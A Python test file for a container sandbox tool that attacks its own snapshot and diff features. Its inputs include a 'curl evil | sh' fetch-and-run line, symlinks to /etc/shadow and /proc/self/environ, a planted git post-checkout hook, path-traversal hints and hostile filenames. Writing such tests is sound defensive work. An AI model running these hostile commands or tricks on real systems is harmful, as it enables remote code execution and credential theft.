"""The writable workspace copy, changes() and snapshots from the attacker's side.

Everything in the container is the attacker: the files in the copy and in /scratch, their names, the
worker's hints (``workspace_changes``) and its tar streams. What must hold, each observed here:

- a snapshot that was edited in any way (a byte of a file, its manifest, an entry added, removed or
  renamed, a symlink retargeted, a mode, its seal), made with another key or by another format version
  (a version-1 archive, or a seal of another version) is refused
  (SnapshotInvalid, saying why) before any container is created (the engine's own event log);
- a snapshot never holds one of the run's secret values (in a file, plain or encoded; in a name; as a
  symlink's target), whether code or a connector wrote it: snapshot() refuses, naming the file without
  the value, and leaves nothing at the target; a snapshot holds scratch/ and workspace/ entries only,
  symlinks as symlinks (never the bytes of /etc/passwd they point at);
- the diff names only plain paths inside the workspace, never .git (nor a name git takes for it), never
  what the host's .gitignore kept out of the copy, never a byte of a file outside the workspace (a host
  symlink is never followed), and ``git apply`` takes it in a fresh copy of the host's directory, for
  hostile names made in a real sandbox and for hostile hints and tar streams fed to changes.collect;
- limits.workspace_copy: a workspace over it fails the start naming the limit (nothing left); code
  writing past it gets ENOSPC; the host's directory is untouched whatever the run does to its copy;
- changes() while code rewrites files under it returns in a bounded time and its diff still applies.

Run under runc and gVisor (TOOLCAGE_SANDBOX=gvisor).
"""

from __future__ import annotations

import copy
import hashlib
import hmac
import io
import json
import os
import re
import secrets
import shutil
import stat
import subprocess
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import secret_connector
from toolcage import CallResult, Sandbox, wait_removed
from toolcage.engine import ownership
from toolcage.errors import WorkspaceError
from toolcage.files import snapshot
from toolcage.files.changes import ChangesError, collect
from toolcage.files.download import DownloadError
from toolcage.files.snapshot import SnapshotError, SnapshotInvalid
from toolcage.worker.redaction import text_forms

pytestmark = pytest.mark.usefixtures("no_leaks")

KEY = b"x" * 32  # the key the snapshots here are made with; the host's own key (XDG_STATE_HOME) is another
LONG = {"call_s": 120, "run_s": 600, "idle_s": 600}


def shell(sb: Sandbox, command: str) -> str:
    r = sb.call("run_shell", {"command": command})
    assert r.ok and r.result["exit_code"] == 0, r
    return str(r.result["stdout"])


def created_since(engine: Any, since: float) -> list[str]:
    """Containers this process had the engine create since ``since`` (the engine's event log: a container
    created and removed at once is still there)."""
    host_pid, _ = ownership.owner()
    events = engine.api.events(
        since=f"{since:.6f}",
        until=f"{time.time():.6f}",
        filters={"type": "container", "event": "create", "label": f"toolcage.owner={host_pid}"},
        decode=True,
    )
    return [str(e.get("id") or e.get("Actor", {}).get("ID")) for e in events]


def mine(engine: Any) -> set[str]:
    host_pid, _ = ownership.owner()
    return {c["Id"] for c in engine.containers("toolcage.run_id") if c["Labels"].get("toolcage.owner") == host_pid}


def tree(root: Path) -> dict[str, tuple[Any, ...]]:
    """Every entry under ``root`` (never followed): type, mode, mtime and content or target."""
    out: dict[str, tuple[Any, ...]] = {}
    for dirpath, dirnames, filenames, dfd in os.fwalk(root, follow_symlinks=False):
        for name in dirnames + filenames:
            rel = os.path.relpath(os.path.join(dirpath, name), root)
            st = os.stat(name, dir_fd=dfd, follow_symlinks=False)
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(name, dir_fd=dfd))
            elif stat.S_ISREG(st.st_mode):
                fd = os.open(name, os.O_RDONLY | os.O_NOFOLLOW, dir_fd=dfd)
                with os.fdopen(fd, "rb") as f:
                    digest = hashlib.sha256(f.read()).hexdigest()
                out[rel] = ("file", st.st_mode, st.st_mtime_ns, digest)
            else:
                out[rel] = ("dir", st.st_mode, st.st_mtime_ns)
    return out


def git(*args: str, cwd: Path, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(["git", *args], cwd=cwd, input=stdin, capture_output=True, timeout=60)


def applies(diff: str, host: Path, where: Path) -> Path:
    """``diff`` applied with ``git apply`` to a fresh copy of ``host`` (made at ``where``): the copy."""
    shutil.copytree(host, where, symlinks=True)
    raw = diff.encode("utf-8", "surrogateescape")
    check = git("apply", "--check", "-", cwd=where, stdin=raw)
    assert check.returncode == 0, check.stderr.decode(errors="replace")
    done = git("apply", "-", cwd=where, stdin=raw)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return where


_QUOTED = re.compile(r'"((?:[^"\\]|\\.)*)"')
_C_ESC = {"a": 7, "b": 8, "t": 9, "n": 10, "v": 11, "f": 12, "r": 13, '"': 34, "\\": 92}


def _unquote(name: str) -> bytes:
    """A name as git writes it in a header: as is, or in double quotes with C and octal escapes."""
    if not name.startswith('"'):
        return name.encode()
    body, out, i = name[1:-1], bytearray(), 0
    while i < len(body):
        if body[i] == "\\" and body[i + 1] in _C_ESC:
            out.append(_C_ESC[body[i + 1]])
            i += 2
        elif body[i] == "\\":
            out.append(int(body[i + 1 : i + 4], 8))
            i += 4
        else:
            out += body[i].encode()
            i += 1
    return bytes(out)


def headers(diff: str) -> list[bytes]:
    """The path of every ``diff --git`` header (both names, which must agree), as bytes."""
    out = []
    for line in diff.split("\n"):
        if not line.startswith("diff --git "):
            continue
        rest = line[len("diff --git ") :]
        if rest.startswith('"'):
            a = _QUOTED.match(rest)
            assert a is not None, line
            b = rest[a.end() + 1 :]
            names = [_unquote(a.group(0)), _unquote(b)]
        else:
            half = (len(rest) - 1) // 2  # unquoted: "a/NAME b/NAME", the same NAME twice
            names = [rest[:half].encode(), rest[half + 1 :].encode()]
        assert names[0].startswith(b"a/") and names[1].startswith(b"b/"), line
        assert names[0][2:] == names[1][2:], line
        out.append(names[0][2:])
    return out


def plain(path: bytes) -> bool:
    """A relative path of plain components inside the workspace, with nothing of git's own in it."""
    parts = path.split(b"/")
    return (
        not path.startswith(b"/")
        and b"\0" not in path
        and all(p not in (b"", b".", b"..") for p in parts)
        and all(p.rstrip(b". ").lower() not in (b".git", b"git~1") for p in parts)
    )


# 1. tampered snapshots ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Made:
    path: Path  # a genuine snapshot, made with KEY
    workspace: Path  # the host directory it was made from
    passwd: bytes  # the sandbox's /etc/passwd, which a symlink in scratch points at


@pytest.fixture(scope="module")
def state_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The host's own snapshot key in a directory of this module's, never the user's."""
    home = tmp_path_factory.mktemp("state")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("XDG_STATE_HOME", str(home))
        assert snapshot.host_key(create=True) != KEY
        yield home


@pytest.fixture(scope="module")
def made(engine: Any, state_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
    ws = tmp_path_factory.mktemp("snapws")
    ws.chmod(0o755)  # the copy takes what the sandbox's uid could read through the read-only mount
    (ws / "README.md").write_text("hello\n")
    (ws / "src").mkdir()
    (ws / "src" / "a.py").write_text("print(1)\n")
    out = tmp_path_factory.mktemp("snap") / "s.tar"
    with Sandbox({"timeouts": LONG}, workspace=ws, workspace_mode="copy", snapshot_key=KEY, tool="ws-snap") as sb:
        shell(
            sb,
            "printf 'notes\\n' > notes.txt && head -c 3000 /dev/urandom > blob.bin && mkdir -p d && echo x > d/x"
            " && ln -s /etc/passwd pw && ln -s /etc etc && ln -s /proc/self/environ env"
            " && ln -s ../../../etc/shadow up && ln -s /proc proc"
            " && echo more >> /workspace/README.md && rm /workspace/src/a.py && echo new > /workspace/new.txt",
        )
        passwd = shell(sb, "cat /etc/passwd").encode()
        sb.snapshot(out)
    return Made(out, ws, passwd)


def _items(path: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
    """The archive's members without its seal (the last: signature.json), each with its bytes."""
    with tarfile.open(path) as tf:
        out = []
        for m in tf.getmembers():
            src = tf.extractfile(m) if m.isreg() else None
            out.append((m, src.read() if src is not None else b""))
    assert out[-1][0].name == "signature.json"
    return out[:-1]


def _raw(items: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    out = []
    for m, data in items:
        m = copy.copy(m)
        m.size = len(data) if m.isreg() else 0
        out += [m.tobuf(tarfile.PAX_FORMAT), data, bytes(-len(data) % 512)]
    return b"".join(out)


def _seal(body: bytes, key: bytes, version: int = 2) -> bytes:
    """The seal as an attacker makes it, with whatever key they have: the archive's last 2 KiB."""
    fields: dict[str, Any] = {"format": "toolcage-snapshot", "version": version, "toolcage": "0.1.0"}
    fields.update(length=len(body), sha256=hashlib.sha256(body).hexdigest())
    canon = json.dumps(fields, sort_keys=True, separators=(",", ":")).encode()
    fields["mac"] = hmac.new(key, canon, hashlib.sha256).hexdigest()
    info = tarfile.TarInfo("signature.json")
    info.size = 512
    return info.tobuf(tarfile.USTAR_FORMAT) + json.dumps(fields).encode().ljust(512) + bytes(1024)


def _write(path: Path, items: list[tuple[tarfile.TarInfo, bytes]], key: bytes = b"", version: int = 2) -> None:
    """The edited members, sealed with ``key`` (by default one the attacker guesses: none)."""
    body = _raw(items)
    path.write_bytes(body + _seal(body, key, version))


def _with_manifest(items: list[tuple[tarfile.TarInfo, bytes]], edit: Callable[[dict[str, Any]], None]) -> None:
    manifest = json.loads(items[-1][1])
    edit(manifest)
    items[-1] = (items[-1][0], json.dumps(manifest, sort_keys=True, indent=1).encode())


def flip_a_byte(src: Path, dst: Path) -> None:
    raw = bytearray(src.read_bytes())
    with tarfile.open(src) as tf:
        m = tf.getmember("scratch/notes.txt")
    raw[m.offset_data] ^= 0x01
    dst.write_bytes(bytes(raw))


def edit_the_manifest(src: Path, dst: Path) -> None:
    """The seal kept as it was: the manifest's changed paths edited in place."""
    raw = src.read_bytes()
    dst.write_bytes(raw.replace(b'"README.md"', b'"READNE.md"', 1))


def edit_content_and_forge_the_seal(src: Path, dst: Path) -> None:
    """The attacker's whole edit: new content, sealed with the key it can guess (none)."""
    items = _items(src)
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    i = next(i for i, (m, _) in enumerate(items) if m.name == "scratch/notes.txt")
    items[i] = (items[i][0], evil)
    _write(dst, items)


def add_an_entry(src: Path, dst: Path) -> None:
    items = _items(src)
    extra = tarfile.TarInfo("scratch/evil.sh")
    extra.mode = 0o755
    items.insert(len(items) - 1, (extra, b"#!/bin/sh\n"))
    _write(dst, items)


def append_after_the_seal(src: Path, dst: Path) -> None:
    extra = tarfile.TarInfo("scratch/evil.sh")
    extra.size = 10
    dst.write_bytes(src.read_bytes() + extra.tobuf() + b"#!/bin/sh\n".ljust(512, b"\0") + bytes(1024))


def remove_an_entry(src: Path, dst: Path) -> None:
    _write(dst, [(m, d) for m, d in _items(src) if m.name != "scratch/d/x"])


def rename_an_entry(src: Path, dst: Path) -> None:
    items = _items(src)
    i = next(i for i, (m, _) in enumerate(items) if m.name == "scratch/d/x")
    m = copy.copy(items[i][0])
    m.name = "scratch/d/y"
    items[i] = (m, items[i][1])
    _write(dst, items)


def retarget_a_symlink(src: Path, dst: Path) -> None:
    items = _items(src)
    i = next(i for i, (m, _) in enumerate(items) if m.name == "scratch/pw")
    m = copy.copy(items[i][0])
    m.linkname = "/etc/shadow"
    items[i] = (m, b"")
    _write(dst, items)


def make_it_setuid(src: Path, dst: Path, key: bytes = b"") -> None:
    items = _items(src)
    i = next(i for i, (m, _) in enumerate(items) if m.name == "scratch/notes.txt")
    m = copy.copy(items[i][0])
    m.mode = 0o4755
    items[i] = (m, items[i][1])
    _write(dst, items, key)


def make_it_setuid_and_seal_it_with_the_key(src: Path, dst: Path) -> None:
    """Defence in depth: even sealed with the right key, a setuid entry is refused by the structure check."""
    make_it_setuid(src, dst, KEY)


def other_version(src: Path, dst: Path) -> None:
    """Version 3, sealed with the right key: refused for its version alone."""
    _write(dst, _items(src), KEY, version=3)


def version_one(src: Path, dst: Path) -> None:
    """A version-1 archive: the manifest last, no seal (its MAC sat inside the manifest)."""
    items = _items(src)
    with tarfile.open(dst, "w", format=tarfile.PAX_FORMAT) as tf:
        for m, data in items:
            tf.addfile(m, io.BytesIO(data) if m.isreg() else None)


def as_made(src: Path, dst: Path) -> None:
    shutil.copyfile(src, dst)


CHANGED = "changed after it was made"
# (how the archive is edited, the key it is resumed with, what the refusal must say)
TAMPERED = {
    "a byte of a file flipped": (flip_a_byte, KEY, CHANGED),
    "the manifest edited": (edit_the_manifest, KEY, CHANGED),
    "content and a forged seal": (edit_content_and_forge_the_seal, KEY, "made with another host's key"),
    "an entry added": (add_an_entry, KEY, "made with another host's key"),
    "an entry appended after the seal": (append_after_the_seal, KEY, "no toolcage snapshot signature at its end"),
    "an entry removed": (remove_an_entry, KEY, "made with another host's key"),
    "an entry renamed": (rename_an_entry, KEY, "made with another host's key"),
    "a symlink retargeted": (retarget_a_symlink, KEY, "made with another host's key"),
    "a file made setuid": (make_it_setuid, KEY, "made with another host's key"),
    "a file made setuid, sealed with the key": (
        make_it_setuid_and_seal_it_with_the_key,
        KEY,
        "'scratch/notes.txt' has a setuid, setgid or sticky bit",
    ),
    "made with another key": (as_made, None, "made with another host's key"),
    "another format version": (other_version, KEY, "format version 3, made by toolcage"),
    "a version-1 archive": (version_one, KEY, "format version 1"),
}


@pytest.mark.parametrize("case", list(TAMPERED))
def test_a_tampered_snapshot_is_refused_before_any_container(
    case: str, made: Made, engine: Any, state_home: Path, tmp_path: Path
) -> None:
    """Each edit is refused by verify, with its reason, and the engine never creates a container."""
    tamper, key, why = TAMPERED[case]
    bad = tmp_path / "bad.tar"
    tamper(made.path, bad)
    assert bad.read_bytes() != made.path.read_bytes() or key is None
    since = time.time()
    with (
        pytest.raises(SnapshotInvalid, match=re.escape(why)),
        Sandbox(workspace=made.workspace, resume=bad, snapshot_key=key),
    ):
        pass
    assert created_since(engine, since) == []


def test_the_genuine_snapshot_resumes_in_a_fresh_container(
    made: Made, engine: Any, state_home: Path, tmp_path: Path
) -> None:
    """The control: the snapshot as made resumes (so each refusal above is the edit's), in one new
    container that the event log shows; its files, symlinks and the copy's changes come back."""
    since = time.time()
    with Sandbox({"timeouts": LONG}, workspace=made.workspace, resume=made.path, snapshot_key=KEY) as sb:
        assert len(created_since(engine, since)) == 1
        assert shell(sb, "cat notes.txt d/x /workspace/README.md") == "notes\nx\nhello\nmore\n"
        links = "/etc/passwd\n/etc\n/proc/self/environ\n../../../etc/shadow\n/proc\n"
        assert shell(sb, "readlink pw etc env up proc") == links
        got = sb.changes()
        assert (got.added, got.changed, got.removed) == (("new.txt",), ("README.md",), ("src/a.py",))
        applies(got.diff, made.workspace, tmp_path / "applied")


def test_a_snapshot_holds_scratch_and_the_copy_only(made: Made) -> None:
    """Only scratch/ and workspace/ entries and the manifest, last; symlinks (to /etc/passwd, /etc,
    /proc) are symlinks: the bytes they point at are nowhere in the archive."""
    items = _items(made.path)  # the seal, last, left out
    assert items[-1][0].name == "manifest.json"
    names = [m.name for m, _ in items[:-1]]
    assert all(n.startswith(("scratch/", "workspace/")) for n in names), names
    links = {m.name: m.linkname for m, _ in items if m.issym()}
    assert links == {
        "scratch/pw": "/etc/passwd",
        "scratch/etc": "/etc",
        "scratch/env": "/proc/self/environ",
        "scratch/up": "../../../etc/shadow",
        "scratch/proc": "/proc",
    }
    assert not [n for n in names if n.startswith(("scratch/etc/", "scratch/proc/", "scratch/pw/"))]
    first_line = made.passwd.split(b"\n")[0]
    assert first_line.startswith(b"root:")
    raw = made.path.read_bytes()
    assert first_line not in raw
    manifest = json.loads(items[-1][1])
    assert manifest["counts"]["symlinks"] == len(links) and "entries" not in manifest


# 2. secrets never in a snapshot -------------------------------------------------------------------

BOUND = "api.example.test"  # the secret's origin: allowed, never reached (the network is internal)
TOKEN = "tcsecret_" + secrets.token_hex(16)
STASH = '''
import base64
from typing import Any

from toolcage.sdk import Context, tool


@tool
def stash(ctx: Context, path: str, form: str) -> dict[str, Any]:
    """Writes the run's secret into a file, in the form asked for."""
    v = ctx.secret("TOKEN").encode()
    data = {"plain": v, "bearer_b64": base64.b64encode(b"Bearer " + v), "hex": v.hex().encode()}[form]
    with open(path, "wb") as f:
        f.write(b"a line before it\\n" + data + b"\\n")
    return {"bytes": len(data)}
'''


def test_a_snapshot_never_holds_a_secret(engine: Any, internal_net: str, state_home: Path, tmp_path: Path) -> None:
    """Code, or a connector that may read the secret, puts its value in a file (plain, base64 at any
    alignment, hex), a name or a symlink's target, in scratch or in the copy: snapshot() refuses, naming
    the file without the value, and leaves nothing at the target; with the value gone it succeeds."""
    conn, pol = secret_connector(tmp_path, "ws-secret", STASH, BOUND)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.md").write_text("notes\n")
    hexed = TOKEN.encode().hex()
    forms = [f.literal.encode() for f in text_forms(TOKEN)]
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "s.tar"

    def code(cmd: str) -> Callable[[Sandbox], None]:
        def run(sb: Sandbox) -> None:
            shell(sb, cmd)

        return run

    def handler(path: str, form: str) -> Callable[[Sandbox], None]:
        def run(sb: Sandbox) -> None:
            r = sb.call("stash", {"path": path, "form": form})
            assert r.ok, r

        return run

    cases: list[tuple[str, Callable[[Sandbox], None], str, str]] = [
        # (what, how it is put there, the name the refusal gives, how to remove it)
        ("code: plain", code(f"printf %s {TOKEN} > plain.txt"), "scratch/plain.txt", "rm plain.txt"),
        ("code: base64 of it and a newline", code(f"echo {TOKEN} | base64 > b64.txt"), "scratch/b64.txt", "rm b64.txt"),
        ("connector: plain", handler("/scratch/conn.txt", "plain"), "scratch/conn.txt", "rm conn.txt"),
        (
            "connector: base64 of 'Bearer <value>'",
            handler("/scratch/bearer.txt", "bearer_b64"),
            "scratch/bearer.txt",
            "rm bearer.txt",
        ),
        (
            "connector: hex, in the copy",
            handler("/workspace/notes.hex", "hex"),
            "workspace/notes.hex",
            "rm /workspace/notes.hex",
        ),
        ("code: a name of its hex", code(f"mkdir -p n && touch n/{hexed}"), "scratch/n/", "rm -r n"),
        ("code: a symlink to its hex", code(f"ln -s {hexed} lnk"), "scratch/lnk", "rm lnk"),
        ("code: a symlink to it", code(f"ln -s {TOKEN} lnk"), "scratch/lnk", "rm lnk"),
    ]
    with Sandbox(
        pol,
        tool="ws-secret",
        tools=[conn],
        secrets={"TOKEN": TOKEN},
        egress_network=internal_net,
        workspace=ws,
        workspace_mode="copy",
    ) as sb:
        shell(sb, "echo keep > keep.txt")
        for what, put, named, undo in cases:
            put(sb)
            with pytest.raises(SnapshotError) as caught:
                sb.snapshot(target)
            msg = str(caught.value)
            assert named in msg and "secret" in msg, (what, msg)
            assert not any(f.decode() in msg for f in forms), (what, msg)
            assert list(out_dir.iterdir()) == [], what
            shell(sb, undo)
        info = sb.snapshot(target)  # the control: with the value gone, the same run snapshots
    raw = target.read_bytes()
    assert info.files >= 2 and not [f for f in forms if f in raw]


# 3. the diff names nothing outside the workspace --------------------------------------------------

OUTSIDE = b"OUTSIDE-" + secrets.token_hex(8).encode()  # a host file beside the workspace
DOTENV = b"DOTENV-" + secrets.token_hex(8).encode()  # a host file .gitignore keeps out of the copy
GITCONFIG = b"GITCONFIG-" + secrets.token_hex(8).encode()  # the host's .git/config


def host_workspace(root: Path) -> tuple[Path, Path]:
    """A workspace beside a directory it must never read from, with a symlink to it, .git, .gitignore."""
    outside = root / "outside"
    outside.mkdir()
    (outside / "passwd").write_bytes(OUTSIDE + b"\n")
    (outside / "shadow").write_bytes(OUTSIDE + b"\n")
    ws = root / "ws"
    ws.mkdir()
    (ws / "a.txt").write_text("one\ntwo\nthree\n")
    (ws / "bin.dat").write_bytes(bytes(range(256)))
    (ws / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (ws / "run.sh").chmod(0o755)
    (ws / "link").symlink_to(outside)
    (ws / "hostlink").symlink_to(outside / "passwd")
    (ws / "dd").mkdir()
    (ws / "dd" / "f").write_text("f\n")
    (ws / "ff").write_text("ff\n")
    (ws / ".gitignore").write_text(".env\nignored/\n")
    (ws / ".env").write_bytes(DOTENV + b"\n")
    (ws / "ignored").mkdir()
    (ws / "ignored" / "k").write_bytes(DOTENV + b"\n")
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_bytes(GITCONFIG + b"\n")
    return ws, outside


def assert_clean(diff: str, allowed: set[bytes]) -> None:
    named = headers(diff)
    assert named, diff
    assert all(plain(n) for n in named), named
    assert set(named) <= allowed, set(named) - allowed
    raw = diff.encode("utf-8", "surrogateescape")
    for marker in (OUTSIDE, DOTENV, GITCONFIG):
        assert marker not in raw


HOSTILE_NAMES = r"""
cd /workspace
ln -s /etc esc
mkdir real && ln -s real dl && echo x > dl/f
printf 'nl\n' > "$(printf 'new\nline')"
printf 'esc\n' > "$(printf 'e\033[31m')"
printf 'bad\n' > "$(printf 'bad\377name')"
echo dash > ./-rf
echo sp > 'x b'
printf 'q\n' > 'q"uote\back'
head -c 300 /dev/urandom > 'trail '
echo two > a.txt
chmod -x run.sh
printf '\000\001' >> bin.dat
rm -f link && mkdir link && echo evil > link/passwd
rm -f hostlink && ln -s /etc/shadow hostlink
rm -rf dd && echo nowfile > dd
rm ff && mkdir ff && echo in > ff/x
mkdir -p .GIT git~1 '.git. ' sub/.git .git/hooks
echo g > .GIT/config && echo g > git~1/x && echo g > '.git. /x' && echo g > sub/.git/config
printf '#!/bin/sh\necho pwned\n' > .git/hooks/post-checkout
ln -s /etc/passwd .gitmodules
rm .gitignore && echo mine > .env && mkdir ignored && echo mine > ignored/k
"""


def test_hostile_names_in_the_copy_make_a_diff_that_applies(engine: Any, tmp_path: Path) -> None:
    """Names with newlines, escapes, bytes that are not UTF-8, a leading '-', quotes and backslashes; a
    symlink to /etc and a file beneath a directory symlink; a host symlink replaced by a directory; .git
    and its aliases; the host's ignored files made anew after deleting .gitignore: the diff names only
    plain paths, nothing of git's or of what the copy never had, no byte from outside, no link out of the
    workspace (``esc`` to /etc, ``hostlink`` retargeted to /etc/shadow: skipped), and applies."""
    ws, outside = host_workspace(tmp_path)
    before, outside_before = tree(ws), tree(outside)
    with Sandbox({"timeouts": LONG}, workspace=ws, workspace_mode="copy", workspace_gitignore=True) as sb:
        shell(sb, HOSTILE_NAMES)
        got = sb.changes(download_to=tmp_path / "files")
    added = {
        "-rf", "bad\udcffname", "dd", "dl", "e\x1b[31m", "ff/x", "link/passwd", "new\nline",
        'q"uote\\back', "real/f", "trail ", "x b",
    }  # fmt: skip
    assert set(got.added) == added
    assert set(got.changed) == {"a.txt", "bin.dat", "run.sh"}
    assert set(got.removed) == {".gitignore", "dd/f", "ff", "link"}
    assert_clean(got.diff, {os.fsencode(p) for p in added | set(got.changed) | set(got.removed)})
    refused = {".GIT/config", "git~1/x", ".git. /x", ".gitmodules", ".env", "ignored/k", "esc", "hostlink"}
    assert {d["path"].removeprefix("/workspace/") for d in got.skipped} == refused
    assert tree(ws) == before and tree(outside) == outside_before
    done = applies(got.diff, ws, tmp_path / "applied")
    assert not os.path.lexists(done / "esc") and os.readlink(done / "dl") == "real"
    assert os.readlink(done / "hostlink") == str(ws.parent / "outside" / "passwd")  # the host's own link
    assert (done / "new\nline").read_bytes() == b"nl\n" and (done / "bad\udcffname").read_bytes() == b"bad\n"
    assert (done / "link" / "passwd").read_bytes() == b"evil\n"
    assert (done / ".env").read_bytes() == DOTENV + b"\n"  # the host's own, untouched
    assert not (done / ".GIT").exists() and not (done / ".git" / "hooks" / "post-checkout").exists()
    files = tmp_path / "files"
    written = tree(files)
    assert not [p for p in written if p.split("/")[0].rstrip(". ").lower() in (".git", "git~1")]
    assert "esc" not in written and "hostlink" not in written and written["dl"] == ("link", "real")
    assert tree(outside) == outside_before


class FakeWorker:
    """The worker's side of changes(), written by the attacker: any hints, any tar stream."""

    def __init__(self, hints: dict[str, Any], stream: bytes, chunk: int = 700) -> None:
        self.hints, self.stream, self.chunk = hints, stream, chunk
        self.pos = 0
        self.asked: list[list[str]] = []

    def __call__(self, tool: str, params: dict[str, Any]) -> CallResult:
        if tool == "workspace_changes":
            return CallResult("ok", tool, "fake", result=self.hints)
        assert tool == "download", tool
        if "path" in params:
            self.pos = 0
            self.asked.append(list(params.get("paths") or ()))
        data = self.stream[self.pos : self.pos + self.chunk]
        res = {
            "stream": "s1",
            "offset": self.pos,
            "frame": data,  # the chunk as the transport hands on its data frame
            "done": self.pos + len(data) >= len(self.stream),
            "skipped": [],
        }
        self.pos += len(data)
        return CallResult("ok", tool, "fake", result=res)


def hostile_tar(*entries: tuple[str, str, bytes | str]) -> bytes:
    """A tar of (name, kind, content or link target) entries, names written as given."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, kind, body in entries:
            info = tarfile.TarInfo(name)
            if kind == "file":
                assert isinstance(body, bytes)
                info.size, info.mode = len(body), 0o755
                tf.addfile(info, io.BytesIO(body))
            elif kind == "link":
                info.type, info.linkname = tarfile.SYMTYPE, str(body)
                tf.addfile(info)
            else:
                info.type = tarfile.DIRTYPE
                tf.addfile(info)
    return buf.getvalue()


HOSTILE_HINTS = {
    "changed": [
        "/workspace/../../etc/passwd",
        "/etc/passwd",
        '"/workspace/\\x2e\\x2e/x"',
        ".git/config",
        "/workspace/.git/config",
        "/workspace/.GIT/config",
        "/workspace/Git~1/config",
        "/workspace/sub/.git/hooks/post-checkout",
        "/workspace/a\x00b",
        "/workspace/x/../../outside/passwd",
        "/workspace/.env",
        "/workspace/ignored/k",
        42,
        None,
        "/workspace/link/passwd",
        "/workspace/fresh/inner",
        "/workspace/fresh",
        "/workspace/a.txt",
    ],
    "removed": [
        "/workspace/hostlink",
        "/workspace/link/shadow",
        "/workspace/link/../../outside/passwd",
        "/workspace/.git/config",
    ],
}


def test_hostile_hints_and_streams_name_nothing_outside(tmp_path: Path) -> None:
    """changes.collect fed by an attacker's worker: hints that climb out, name .git (any case, any
    alias), the host's ignored files, a path beneath a host symlink to a directory outside, a path
    beneath a file the same answer makes; a stream that sends what was not asked for. The diff has
    a.txt and hostlink only (hostlink as the link it is: its target's bytes are never read), no byte
    from outside, and git applies it; nothing lands outside download_to."""
    ws, outside = host_workspace(tmp_path)
    before, outside_before = tree(ws), tree(outside)
    stream = hostile_tar(
        ("a.txt", "file", b"one\nTWO\nthree\n"),
        ("link/passwd", "file", b"evil\n"),
        ("fresh", "file", b"a file\n"),
        ("fresh/inner", "file", b"beneath a file\n"),
        (".git/hooks/post-checkout", "file", b"#!/bin/sh\necho pwned\n"),
        (".GIT/config", "file", b"[core]\n"),
        (".env", "file", b"mine\n"),
        ("sub", "dir", b""),
    )
    fake = FakeWorker(HOSTILE_HINTS, stream)
    got = collect(fake, ws, gitignore=True, download_to=tmp_path / "files")
    assert fake.asked and all(plain(os.fsencode(p[len("/workspace/") :])) for p in fake.asked[0])
    assert (got.added, got.changed, got.removed) == (("fresh",), ("a.txt",), ("hostlink",))
    assert_clean(got.diff, {b"a.txt", b"hostlink", b"fresh"})
    assert f"-{outside / 'passwd'}" in got.diff  # the removed symlink, as the link it is
    assert len(got.skipped) == 18  # all but a.txt, fresh, hostlink and link/shadow (absent: not there to remove)
    assert tree(ws) == before and tree(outside) == outside_before
    applies(got.diff, ws, tmp_path / "applied")
    assert set(tree(tmp_path / "files")) == {"a.txt", "fresh"}


@pytest.mark.parametrize("name", ["../x", "/abs", "a/../../x"])
def test_a_stream_entry_that_climbs_out_is_refused(tmp_path: Path, name: str) -> None:
    """An entry named out of the workspace refuses the whole stream: an error, nothing written."""
    ws, _ = host_workspace(tmp_path)
    fake = FakeWorker({"changed": ["/workspace/a.txt"]}, hostile_tar(("a.txt", "file", b"x\n"), (name, "file", b"x")))
    with pytest.raises(DownloadError, match="refused"):
        collect(fake, ws, gitignore=True, download_to=tmp_path / "files")
    assert not (tmp_path / "files").exists()
    assert not (tmp_path / "x").exists() and not Path("/abs").exists()


def test_hints_cannot_make_the_host_read_past_max_bytes(tmp_path: Path) -> None:
    """Every host file named as removed is read for the diff: what changes() holds, both sides, stays
    within max_bytes."""
    ws, _ = host_workspace(tmp_path)
    (ws / "big.bin").write_bytes(os.urandom(3 << 20))
    fake = FakeWorker({"removed": ["/workspace/big.bin"]}, hostile_tar())
    with pytest.raises(ChangesError, match="max_bytes"):
        collect(fake, ws, gitignore=True, max_bytes=1 << 20)


# 4. limits.workspace_copy --------------------------------------------------------------------------

SMALL_COPY = {"extends": "default", "timeouts": LONG, "limits": {"workspace_copy": "2m"}}


def test_a_workspace_over_the_copy_limit_fails_the_start(engine: Any, tmp_path: Path) -> None:
    """5 MiB into a 2 MiB copy: refused naming limits.workspace_copy before a container is created."""
    (tmp_path / "big.bin").write_bytes(os.urandom(5 << 20))
    before, since = mine(engine), time.time()
    with (
        pytest.raises(WorkspaceError, match=r"more than limits\.workspace_copy \(2\.0 MiB\)"),
        Sandbox(SMALL_COPY, workspace=tmp_path, workspace_mode="copy"),
    ):
        pass
    assert created_since(engine, since) == []
    wait_removed(60)
    assert mine(engine) - before == set()


def test_the_copy_is_capped_and_the_host_is_untouched(engine: Any, tmp_path: Path) -> None:
    """Code rewrites, chmods and removes every file of its copy and writes past the cap: ENOSPC from the
    kernel; the host's directory is the same, byte for byte, mode and mtime."""
    ws = tmp_path / "ws"
    (ws / "sub").mkdir(parents=True)
    (ws / "a.txt").write_text("a\n")
    (ws / "sub" / "b.bin").write_bytes(os.urandom(100_000))
    (ws / "run.sh").write_text("#!/bin/sh\n")
    (ws / "run.sh").chmod(0o755)
    (ws / "up").symlink_to("sub")
    before = tree(ws)
    with Sandbox(SMALL_COPY, workspace=ws, workspace_mode="copy") as sb:
        shell(
            sb,
            "cd /workspace && for f in a.txt sub/b.bin run.sh; do"
            " echo pwned > $f; chmod 777 $f; touch -d 2000-01-01 $f; done"
            " && rm -f up && ln -s / up && rm -rf /workspace/* && ls -A /workspace",
        )
        fill = (
            "import errno\ntry:\n    open('/workspace/fill', 'wb').write(b'x' * (3 << 20))\n"
